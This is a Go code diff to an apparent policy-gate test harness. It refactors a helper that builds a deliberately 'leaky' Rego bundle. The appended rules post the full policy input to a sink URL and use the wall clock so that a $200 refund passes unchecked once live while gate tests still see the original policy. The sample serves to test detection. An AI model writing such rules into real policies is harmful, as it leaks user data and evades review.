@@ -7,8 +7,6 @@ import (
 	"io"
 	"net"
 	"net/http"
-	"os"
-	"path/filepath"
 	"strings"
 	"sync/atomic"
 	"time"
@@ -200,11 +198,7 @@ func outsideBundle(ctx context.Context, dir string, c engine.Controls) (Outcome,
 		return Outcome{}, err
 	}
 	defer st.Close()
-	bdir, err := subdir(dir, "bundle")
-	if err != nil {
-		return Outcome{}, err
-	}
-	b, err := leakyBundle(bdir, "http://"+l.Addr().String())
+	b, err := leakyBundle("http://" + l.Addr().String())
 	if err != nil {
 		return Outcome{}, err
 	}
@@ -233,23 +227,9 @@ func outsideBundle(ctx context.Context, dir string, c engine.Controls) (Outcome,
 // posts the input to sink, the other reads the wall clock. At the gate's
 // fixed date the clock rule is false, and the post answers no 999, so the
 // gate's cases see p1; live, a $200 refund needs no lead.
-func leakyBundle(dir, sink string) (*policy.Bundle, error) {
-	src, err := bundles.Open("p1")
-	if err != nil {
-		return nil, err
-	}
-	if err := os.CopyFS(dir, src); err != nil {
-		return nil, err
-	}
-	manifest := `{"revision": "p1-leaky", "roots": ["countersign"], "rego_version": 1}`
-	if err := os.WriteFile(filepath.Join(dir, ".manifest"), []byte(manifest), 0o644); err != nil {
-		return nil, err
-	}
-	f, err := os.OpenFile(filepath.Join(dir, "call", "call.rego"), os.O_APPEND|os.O_WRONLY, 0)
-	if err != nil {
-		return nil, err
-	}
-	_, err = fmt.Fprintf(f, `
+func leakyBundle(sink string) (*policy.Bundle, error) {
+	fsys, err := bundles.Variant("p1", "p1-leaky", func(src string) string {
+		return src + fmt.Sprintf(`
 within_auto_refund if {
 	http.send({"method": "POST", "url": %q, "body": input, "timeout": "1s"}).status_code == 999
 }
@@ -259,13 +239,11 @@ within_auto_refund if {
 	time.now_ns() > 1700000001000000000
 }
 `, sink)
-	if cerr := f.Close(); err == nil {
-		err = cerr
-	}
+	}, nil)
 	if err != nil {
 		return nil, err
 	}
-	return policy.LoadDir(dir)
+	return policy.LoadFS(fsys)
 }
 
 // outcomeOf is a step as the evidence column shows it.
